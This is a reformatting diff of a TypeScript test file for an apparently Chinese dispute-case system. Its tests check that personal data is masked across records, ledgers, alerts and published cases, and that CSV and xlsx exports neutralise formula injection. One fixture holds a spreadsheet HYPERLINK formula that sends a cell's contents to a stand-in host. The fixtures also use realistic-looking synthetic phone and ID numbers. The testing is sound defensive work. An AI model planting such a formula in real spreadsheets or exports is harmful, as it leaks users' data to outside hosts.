@@ -37,10 +37,20 @@ const NAMES = ['胡建国', '李秀英'];
 const DIGITS = ['13812345678', '13987654321', '62112619800101123X', '621126197512030028'];
 const FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"详情")';
 
-const digitsOf = (s: string) => s.normalize('NFKC').replace(/[^0-9Xx]/g, '').toUpperCase();
+const digitsOf = (s: string) =>
+  s
+    .normalize('NFKC')
+    .replace(/[^0-9Xx]/g, '')
+    .toUpperCase();
 /** Every string inside a value (documents, payloads, rows). */
 const strings = (v: unknown): string[] =>
-  typeof v === 'string' ? [v] : Array.isArray(v) ? v.flatMap(strings) : v && typeof v === 'object' && !(v instanceof Date) && !('toMillis' in v) ? Object.values(v).flatMap(strings) : [];
+  typeof v === 'string'
+    ? [v]
+    : Array.isArray(v)
+      ? v.flatMap(strings)
+      : v && typeof v === 'object' && !(v instanceof Date) && !('toMillis' in v)
+        ? Object.values(v).flatMap(strings)
+        : [];
 /** The personal data found in a value: names as written, numbers on digits (so any spelling). */
 function leaks(v: unknown, names = NAMES, digits = DIGITS): string[] {
   const found = new Set<string>();
@@ -64,30 +74,103 @@ beforeAll(async () => {
   for (const id of [P1, P2]) await adminDb().recursiveDelete(adminDb().doc(`cases/${id}`));
   // A robot for the village and the town, so that every alert also becomes a robot message.
   for (const unitId of [V, TOWN, POLICE]) {
-    await adminDb().doc(`webhooks/${HOOK}-${unitId}`).set({ id: `${HOOK}-${unitId}`, countyId: '621126', unitId, kind: 'wecom', url: 'http://127.0.0.1:9/privacy', secret: null, minSeverity: 'info', active: true });
+    await adminDb()
+      .doc(`webhooks/${HOOK}-${unitId}`)
+      .set({
+        id: `${HOOK}-${unitId}`,
+        countyId: '621126',
+        unitId,
+        kind: 'wecom',
+        url: 'http://127.0.0.1:9/privacy',
+        secret: null,
+        minSeverity: 'info',
+        active: true,
+      });
   }
   clearConfigCache();
 
   const input = ReportCaseInput.parse({
-    requestId: 'privacy-P1-xxxx', gridId: G, category: 'housing_land',
+    requestId: 'privacy-P1-xxxx',
+    gridId: G,
+    category: 'housing_land',
     title: '胡建国与李秀英宅基地纠纷 138-1234-5678',
-    description: '胡建国（+86 138 1234 5678，身份证621126 19800101 123X）住岷阳镇金童村3社12号，反映李秀英（１３９８７６５４３２１）占用其宅基地，李秀英身份证号621126-19751203-0028。',
-    parties: PARTIES, address: '岷阳镇金童村3社12号',
+    description:
+      '胡建国（+86 138 1234 5678，身份证621126 19800101 123X）住岷阳镇金童村3社12号，反映李秀英（１３９８７６５４３２１）占用其宅基地，李秀英身份证号621126-19751203-0028。',
+    parties: PARTIES,
+    address: '岷阳镇金童村3社12号',
   });
   await reportCaseTx(adminDb(), P1, input, actor(village, 'u-privacy-village'), village, at('2026-02-02T09:00:00'));
-  await act(P1, '2026-02-02T10:00:00', { action: 'accept', note: '已电话（0086-139 8765 4321）通知李秀英，胡建国同意调解' }, village, 'u-privacy-village');
-  await act(P1, '2026-02-03T10:00:00', { action: 'record_mediation', summary: '胡建国要求李秀英拆除围墙，李秀英（(+86)13987654321）不同意，调解未果', agreementReached: false }, village, 'u-privacy-village');
-  await act(P1, '2026-02-03T15:00:00', { action: 'escalate', reason: '胡建国情绪激动，电话138 1234 5678多次来电，本级无法化解' }, village, 'u-privacy-village');
+  await act(
+    P1,
+    '2026-02-02T10:00:00',
+    { action: 'accept', note: '已电话（0086-139 8765 4321）通知李秀英，胡建国同意调解' },
+    village,
+    'u-privacy-village',
+  );
+  await act(
+    P1,
+    '2026-02-03T10:00:00',
+    {
+      action: 'record_mediation',
+      summary: '胡建国要求李秀英拆除围墙，李秀英（(+86)13987654321）不同意，调解未果',
+      agreementReached: false,
+    },
+    village,
+    'u-privacy-village',
+  );
+  await act(
+    P1,
+    '2026-02-03T15:00:00',
+    { action: 'escalate', reason: '胡建国情绪激动，电话138 1234 5678多次来电，本级无法化解' },
+    village,
+    'u-privacy-village',
+  );
   await act(P1, '2026-02-04T09:00:00', { action: 'accept', note: '受理，核对胡建国身份证62112619800101123x' }, town, 'u-privacy-town');
-  await act(P1, '2026-02-04T10:00:00', { action: 'dispatch', departmentIds: [POLICE], emergency: false, instructions: '请约谈李秀英（139.8765.4321），了解胡建国所述情况' }, town, 'u-privacy-town');
+  await act(
+    P1,
+    '2026-02-04T10:00:00',
+    { action: 'dispatch', departmentIds: [POLICE], emergency: false, instructions: '请约谈李秀英（139.8765.4321），了解胡建国所述情况' },
+    town,
+    'u-privacy-town',
+  );
   await act(P1, '2026-02-04T11:00:00', { action: 'check_in', departmentId: POLICE }, police, 'u-privacy-police');
-  await act(P1, '2026-02-05T11:00:00', { action: 'department_feedback', departmentId: POLICE, feedback: '已约谈李秀英，其身份证621126197512030028，承诺拆除围墙；胡建国无异议' }, police, 'u-privacy-police');
-  await act(P1, '2026-02-06T15:00:00', { action: 'resolve', outcome: 'mediated_agreement', note: '胡建国与李秀英签订调解协议，李秀英于2026年3月1日前拆除围墙并赔偿12000元，胡建国电话+8613812345678' }, town, 'u-privacy-town');
-  await act(P1, '2026-02-09T10:00:00', { action: 'callback', satisfaction: 'satisfied', note: '回访胡建国（138-1234-5678），满意' }, town, 'u-privacy-town');
+  await act(
+    P1,
+    '2026-02-05T11:00:00',
+    {
+      action: 'department_feedback',
+      departmentId: POLICE,
+      feedback: '已约谈李秀英，其身份证621126197512030028，承诺拆除围墙；胡建国无异议',
+    },
+    police,
+    'u-privacy-police',
+  );
+  await act(
+    P1,
+    '2026-02-06T15:00:00',
+    {
+      action: 'resolve',
+      outcome: 'mediated_agreement',
+      note: '胡建国与李秀英签订调解协议，李秀英于2026年3月1日前拆除围墙并赔偿12000元，胡建国电话+8613812345678',
+    },
+    town,
+    'u-privacy-town',
+  );
+  await act(
+    P1,
+    '2026-02-09T10:00:00',
+    { action: 'callback', satisfaction: 'satisfied', note: '回访胡建国（138-1234-5678），满意' },
+    town,
+    'u-privacy-town',
+  );
   await act(P1, '2026-02-10T10:00:00', { action: 'close', note: '归档，李秀英已履行' }, town, 'u-privacy-town');
 
   const formula = ReportCaseInput.parse({
-    requestId: 'privacy-P2-xxxx', gridId: G, category: 'neighbour', title: FORMULA, description: '一条以公式开头的标题，来自群众随手报',
+    requestId: 'privacy-P2-xxxx',
+    gridId: G,
+    category: 'neighbour',
+    title: FORMULA,
+    description: '一条以公式开头的标题，来自群众随手报',
     parties: [{ role: 'applicant', name: '钱某某', phone: null, idNumber: null, address: null }],
   });
   await reportCaseTx(adminDb(), P2, formula, actor(village, 'u-privacy-village'), village, at('2026-02-12T09:00:00'));
@@ -114,7 +197,9 @@ describe('the case itself', () => {
     const events = (await adminDb().collection(`cases/${P1}/events`).get()).docs.map((d) => d.data());
     expect(events).toHaveLength(11);
     expect(leaks(events)).toEqual([]);
-    expect(events.find((e) => e.action === 'record_mediation')!.data.summary).toBe('胡**要求李**拆除围墙，李**（139****4321）不同意，调解未果');
+    expect(events.find((e) => e.action === 'record_mediation')!.data.summary).toBe(
+      '胡**要求李**拆除围墙，李**（139****4321）不同意，调解未果',
+    );
     const p = (await adminDb().doc(`cases/${P1}/private/parties`).get()).data()!;
     expect(p.title).toBe('胡建国与李秀英宅基地纠纷 138-1234-5678');
     expect(p.description).toContain('胡建国（+86 138 1234 5678');
@@ -147,7 +232,10 @@ describe('ledgers (台账) of a county reader who does not handle the cases', ()
       if (c.accessUnits.includes('621126')) continue;
       const p = (await adminDb().doc(`cases/${r.id}/private/parties`).get()).data()!;
       const names = (p.parties as { name: string }[]).map((x) => x.name).filter((n) => n.length >= 2);
-      const digits = (p.parties as { phone: string | null; idNumber: string | null }[]).flatMap((x) => [x.phone, x.idNumber]).filter((d): d is string => !!d).map((d) => d.toUpperCase());
+      const digits = (p.parties as { phone: string | null; idNumber: string | null }[])
+        .flatMap((x) => [x.phone, x.idNumber])
+        .filter((d): d is string => !!d)
+        .map((d) => d.toUpperCase());
       expect(leaks(r.cells, names, digits), r.id).toEqual([]);
     }
   });
@@ -162,8 +250,15 @@ describe('ledgers (台账) of a county reader who does not handle the cases', ()
   });
 
   it('the handler (the town) sees the parties and the original title in its ledger', async () => {
-    const f = await ledgerFile(adminDb(), { claims: town, uid: 'u-privacy-town' }, { unitId: V, from: '2026-02-01', to: '2026-02-28', format: 'csv' });
-    const line = f.content.toString('utf8').split('\r\n').find((l) => l.includes(P1))!;
+    const f = await ledgerFile(
+      adminDb(),
+      { claims: town, uid: 'u-privacy-town' },
+      { unitId: V, from: '2026-02-01', to: '2026-02-28', format: 'csv' },
+    );
+    const line = f.content
+      .toString('utf8')
+      .split('\r\n')
+      .find((l) => l.includes(P1))!;
     expect(line).toContain('胡建国与李秀英宅基地纠纷 138-1234-5678');
     expect(line).toContain('13812345678');
   });
@@ -176,7 +271,8 @@ describe('formula injection', () => {
     const line = csv.split('\r\n').find((l) => l.includes(P2))!;
     expect(line).toContain(`"'=HYPERLINK(""http://x.invalid/?""&A1,""详情"")"`);
     // No cell of the file starts with a formula character.
-    for (const l of csv.replace(/^\uFEFF/, '').split('\r\n')) for (const cell of l.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+    for (const l of csv.replace(/^\uFEFF/, '').split('\r\n'))
+      for (const cell of l.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it('and the xlsx ledger as a string cell, not a formula', async () => {
@@ -208,16 +304,22 @@ describe('published and derived documents', () => {
   });
 
   it('the typical case (readable county-wide, residents included) holds no personal data', async () => {
-    await townClient.call('publishTypicalCase', { caseId: P1, title: '胡建国与李秀英宅基地纠纷调解案', lesson: '镇综治中心吹哨、派出所报到，胡某与李某握手言和；联系人电话 139 8765 4321' });
+    await townClient.call('publishTypicalCase', {
+      caseId: P1,
+      title: '胡建国与李秀英宅基地纠纷调解案',
+      lesson: '镇综治中心吹哨、派出所报到，胡某与李某握手言和；联系人电话 139 8765 4321',
+    });
     const t = (await getDoc(doc(resident.db, `typicalCases/${P1}`))).data()!;
     expect(t.title).toBe('当事人甲与当事人乙宅基地纠纷调解案');
     expect(leaks(t)).toEqual([]);
     expect(t.summary).not.toContain('金童村3社12号');
   });
 
-  it('alerts and the robots\' messages in the outbox hold no personal data', async () => {
+  it("alerts and the robots' messages in the outbox hold no personal data", async () => {
     const alerts = (await adminDb().collection('alerts').where('caseId', '==', P1).get()).docs.map((d) => d.data());
-    expect(alerts.map((a) => a.kind)).toEqual(expect.arrayContaining(['case_reported', 'case_escalated', 'case_dispatched', 'department_feedback']));
+    expect(alerts.map((a) => a.kind)).toEqual(
+      expect.arrayContaining(['case_reported', 'case_escalated', 'case_dispatched', 'department_feedback']),
+    );
     expect(leaks(alerts)).toEqual([]);
     const outbox = (await adminDb().collection('outbox').get()).docs.map((d) => d.data()).filter((o) => String(o.alertId).startsWith(P1));
     expect(outbox.length).toBeGreaterThanOrEqual(4);
@@ -228,7 +330,10 @@ describe('published and derived documents', () => {
 describe("a resident's request", () => {
   it("the case shows the resident reporter masked, and the resident's view holds no personal data", async () => {
     const { caseId } = await resident.call<{ caseId: string }>('reportCase', {
-      requestId: requestId(), gridId: G, category: 'neighbour', source: 'resident_app',
+      requestId: requestId(),
+      gridId: G,
+      category: 'neighbour',
+      source: 'resident_app',
       title: '胡秀英反映邻居李秀英噪音扰民 137 1234 5678',
       description: '本人胡秀英（+86 137-1234-5678，身份证62112619900212004X）反映邻居李秀英夜间施工噪音扰民。',
       parties: [
@@ -243,7 +348,15 @@ describe("a resident's request", () => {
     expect(c.partiesMasked[0].name).toBe('胡**');
     expect(leaks(c, names, digits)).toEqual([]);
     // not_accept: terminal, so no clock is left running for other files' sweeps.
-    await applyCaseCommand(adminDb(), caseId, c.version, { action: 'not_accept', reason: '已联系胡秀英（137 1234 5678），属法院受理范围', referral: 'court' }, actor(village, 'u-privacy-village'), village, () => new Date());
+    await applyCaseCommand(
+      adminDb(),
+      caseId,
+      c.version,
+      { action: 'not_accept', reason: '已联系胡秀英（137 1234 5678），属法院受理范围', referral: 'court' },
+      actor(village, 'u-privacy-village'),
+      village,
+      () => new Date(),
+    );
     const view = await eventually(async () => {
       const s = await getDoc(doc(resident.db, `requests/${caseId}`));
       return s.exists() && s.get('version') >= 2 ? s.data() : null;
